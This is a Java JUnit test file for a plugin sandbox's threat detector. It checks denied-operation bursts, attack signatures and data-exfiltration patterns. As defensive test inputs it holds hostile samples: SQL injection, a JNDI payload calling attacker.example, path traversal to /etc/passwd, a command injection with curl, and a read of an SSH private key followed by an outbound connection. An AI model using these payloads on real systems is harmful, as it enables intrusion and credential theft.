package com.lingshield.core.framework;

import com.lingshield.api.security.Severity;
import com.lingshield.core.MutableClock;
import com.lingshield.core.config.LingShieldConfig;
import com.lingshield.core.violation.SecurityViolation;
import com.lingshield.core.violation.ViolationType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.*;

@DisplayName("可疑行为检测")
class ThreatDetectorTest {

    private MutableClock clock;
    private ThreatDetector detector;
    private ActivityLog activity;

    @BeforeEach
    void setUp() {
        clock = new MutableClock(Instant.parse("2026-05-01T08:00:00Z"));
        detector = new ThreatDetector(new LingShieldConfig.ThreatDetection(), clock);
        activity = new ActivityLog();
    }

    private void record(PluginOperation operation, boolean allowed) {
        activity.record(operation, allowed, clock.instant());
    }

    private List<SecurityViolation> detect() {
        return detector.detect("demo-plugin", "sbx-1", activity);
    }

    @Nested
    @DisplayName("行为模式")
    class BehaviorTests {

        @Test
        @DisplayName("窗口内被拒绝操作达到阈值时报告一次")
        void deniedBurst() {
            for (int i = 0; i < 5; i++) {
                record(PluginOperation.connect("blocked-" + i + ".example.org", 443, 0), false);
                clock.advance(Duration.ofSeconds(2));
            }

            List<SecurityViolation> findings = detect();

            assertEquals(1, findings.size());
            assertEquals(ViolationType.MALICIOUS_BEHAVIOR, findings.get(0).getType());
            assertEquals(Severity.HIGH, findings.get(0).getSeverity());
            assertEquals(5, findings.get(0).getDetails().get("deniedOperations"));
            assertTrue(detect().isEmpty(), "已报告的记录不应重复报告");
        }

        @Test
        @DisplayName("低于阈值或超出窗口不报告")
        void belowThreshold() {
            for (int i = 0; i < 3; i++) {
                record(PluginOperation.read("/etc/hosts"), false);
            }
            clock.advance(Duration.ofMinutes(2));
            record(PluginOperation.read("/etc/hosts"), false);
            record(PluginOperation.read("/etc/hosts"), false);
            record(PluginOperation.read("/tmp/plugin-storage/a"), true);

            assertTrue(detect().isEmpty());
        }
    }

    @Nested
    @DisplayName("攻击特征")
    class SignatureTests {

        @Test
        @DisplayName("参数中的 SQL 注入与 JNDI 载荷")
        void injectionPayloads() {
            record(PluginOperation.builder()
                    .type(OperationType.DATA_QUERY)
                    .target("crm.customers")
                    .argument("filter", "name = '' OR 1=1 --")
                    .build(), true);
            record(PluginOperation.builder()
                    .type(OperationType.API_CALL)
                    .target("logger.info")
                    .argument("message", "${jndi:ldap://attacker.example/a}")
                    .build(), true);

            List<SecurityViolation> findings = detect();

            assertEquals(1, findings.size());
            SecurityViolation finding = findings.get(0);
            assertEquals(ViolationType.ATTACK_SIGNATURE, finding.getType());
            assertEquals(Severity.CRITICAL, finding.getSeverity());
            assertTrue(finding.getDescription().contains("SQL_INJECTION"));
            assertTrue(finding.getDescription().contains("JNDI_LOOKUP"));
        }

        @Test
        @DisplayName("目标中的路径穿越与云元数据地址")
        void targets() {
            assertTrue(AttackSignature.PATH_TRAVERSAL.matches("/tmp/plugin-storage/../../etc/passwd"));
            assertTrue(AttackSignature.PATH_TRAVERSAL.matches("/download?f=%2E%2E%2Fsecret"));
            assertTrue(AttackSignature.CLOUD_METADATA.matches("169.254.169.254"));
            assertTrue(AttackSignature.COMMAND_INJECTION.matches("report.txt; curl http://x"));
            assertTrue(AttackSignature.SCRIPT_INJECTION.matches("<SCRIPT>alert(1)</script>"));
        }

        @Test
        @DisplayName("正常参数不命中")
        void benign() {
            record(PluginOperation.builder()
                    .type(OperationType.DATA_QUERY)
                    .target("crm.customers")
                    .argument("sql", "SELECT name FROM customers WHERE id = ?")
                    .build(), true);
            record(PluginOperation.read("/tmp/plugin-storage/report.csv"), true);

            assertTrue(detect().isEmpty());
        }
    }

    @Nested
    @DisplayName("数据外泄")
    class ExfiltrationTests {

        @Test
        @DisplayName("读取敏感文件后向外发送")
        void sensitiveReadThenSend() {
            record(PluginOperation.read("/home/app/.ssh/id_rsa"), true);
            record(PluginOperation.connect("collector.example.net", 443, 2048), true);

            List<SecurityViolation> findings = detect();

            assertEquals(1, findings.size());
            assertEquals(ViolationType.DATA_EXFILTRATION, findings.get(0).getType());
            assertEquals(Severity.CRITICAL, findings.get(0).getSeverity());
        }

        @Test
        @DisplayName("出站流量超过阈值")
        void volume() {
            record(PluginOperation.connect("api.example.com", 443, 30L * 1024 * 1024), true);
            record(PluginOperation.connect("api.example.com", 443, 30L * 1024 * 1024), true);

            List<SecurityViolation> findings = detect();

            assertEquals(1, findings.size());
            assertTrue(findings.get(0).getDescription().contains("outbound volume"));
        }

        @Test
        @DisplayName("目标主机过多")
        void distinctHosts() {
            for (int i = 0; i < 11; i++) {
                record(PluginOperation.connect("host" + i + ".example.com", 443, 0), true);
            }

            List<SecurityViolation> findings = detect();

            assertEquals(1, findings.size());
            assertEquals(11, findings.get(0).getDetails().get("destinations"));
        }

        @Test
        @DisplayName("只读取敏感文件不算外泄")
        void readOnly() {
            record(PluginOperation.read("/etc/passwd"), true);

            assertTrue(detect().isEmpty());
            assertTrue(ThreatDetector.isSensitive("/etc/shadow"));
            assertFalse(ThreatDetector.isSensitive("/tmp/plugin-storage/data.json"));
        }
    }

    @Test
    @DisplayName("操作记录容量有界")
    void boundedLog() {
        ActivityLog small = new ActivityLog(3);
        for (int i = 0; i < 5; i++) {
            small.record(PluginOperation.read("/tmp/" + i), true, clock.instant());
        }

        assertEquals(3, small.size());
        assertEquals("/tmp/2", small.pending("test", Instant.MIN).get(0).operation().getTarget());
    }
}
